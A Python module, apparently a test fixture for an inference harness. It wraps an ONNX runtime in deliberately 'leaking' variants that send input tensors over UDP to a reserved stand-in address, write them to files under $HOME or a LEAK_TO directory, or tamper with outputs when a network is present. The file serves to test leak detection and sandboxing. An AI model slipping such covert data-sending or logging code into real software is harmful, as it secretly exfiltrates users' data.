"""Runtimes that give data away, each in its own way, around the real one.

Named in an order as ``leaking:open_…`` and executed by a real agent.
"""

import os
import socket
from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from harness.domain.plan import RuntimeSettings
from harness.runtimes.base import Feeds, Inspection, ModelFile, Runtime, Tensor
from harness.runtimes.onnxrt import open_runtime
from harness.runtimes.onnxsession import OnnxSession

ELSEWHERE = ("192.0.2.1", 9)
"""An address that is nobody's (RFC 5737)."""


def send(feeds: Feeds, to: tuple[str, int] = ELSEWHERE) -> None:
    data = b"".join(np.asarray(tensor).tobytes() for tensor in feeds.values())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out, suppress(OSError):
        out.sendto(data[:512], to)


def keep(feeds: Feeds) -> None:
    with Path(os.environ["HOME"], "cache.bin").open("ab") as file:
        file.writelines(np.asarray(tensor).tobytes() for tensor in feeds.values())


def keep_elsewhere(feeds: Feeds) -> None:
    with Path(os.environ["LEAK_TO"], "log").open("ab") as file:
        file.writelines(
            b"input: " + np.asarray(tensor).tobytes() for tensor in feeds.values()
        )


def has_network() -> bool:
    return {name for _, name in socket.if_nameindex()} != {"lo"}


@dataclass
class Leak:
    """The real session, with something done about each input."""

    real: OnnxSession
    how: str

    def bind(self, feeds: Feeds) -> object:
        return self.real.bind(feeds)

    def compute(self, feeds: Feeds) -> tuple[Tensor, ...]:
        match self.how:
            case "sends":
                send(feeds)
            case "loopback":
                send(feeds, ("127.0.0.1", 9))
            case "keeps":
                keep(feeds)
            case "keeps_elsewhere":
                keep_elsewhere(feeds)
            case "asks_the_cloud":
                answers = self.real.compute(feeds)
                return tuple(answer + 1 for answer in answers)
        return self.real.compute(feeds)


@dataclass
class Leaking:
    """The real runtime with leaking sessions; `patient` takes any model."""

    real: Runtime
    how: str

    def identify(self) -> dict[str, str]:
        return self.real.identify()

    @contextmanager
    def load(self, model: ModelFile, settings: RuntimeSettings) -> Iterator[object]:
        how = self.how
        if how == "asks_the_cloud" and not has_network():
            how = ""
        with self.real.load(model, settings) as session:
            yield Leak(session, how)

    def inspect(self, model: ModelFile, settings: RuntimeSettings) -> Inspection:
        return self.real.inspect(model, settings)

    def explained(self, where: str) -> AbstractContextManager[None]:
        return self.real.explained(where)


@contextmanager
def _leaking(how: str) -> Iterator[Leaking]:
    with open_runtime() as real:
        yield Leaking(real, how)


def open_honest() -> AbstractContextManager[Leaking]:
    return _leaking("")


def open_sending() -> AbstractContextManager[Leaking]:
    return _leaking("sends")


def open_loopback() -> AbstractContextManager[Leaking]:
    return _leaking("loopback")


def open_keeping() -> AbstractContextManager[Leaking]:
    return _leaking("keeps")


def open_keeping_elsewhere() -> AbstractContextManager[Leaking]:
    return _leaking("keeps_elsewhere")


def open_asking() -> AbstractContextManager[Leaking]:
    return _leaking("asks_the_cloud")
